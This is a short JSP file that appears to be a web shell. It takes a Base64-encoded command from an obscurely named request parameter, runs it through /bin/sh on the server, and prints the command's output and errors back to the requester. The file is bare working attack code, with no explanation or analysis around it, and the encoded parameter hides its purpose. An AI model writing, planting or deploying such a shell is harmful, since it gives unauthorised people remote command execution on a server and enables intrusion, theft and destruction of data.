<%@ page import="java.io.*" %>
<%
    String x = request.getParameter("pgxnht");
    if (x != null) {
        String c = new String(java.util.Base64.getDecoder().decode(x), "UTF-8");
        String[] arr = {"/bin/sh", "-c", c};
        Process p = Runtime.getRuntime().exec(arr);
        BufferedReader in = new BufferedReader(new InputStreamReader(p.getInputStream()));
        BufferedReader er = new BufferedReader(new InputStreamReader(p.getErrorStream()));
        String s;
        while ((s = in.readLine()) != null) out.println(s);
        while ((s = er.readLine()) != null) out.println(s);
    }
%>
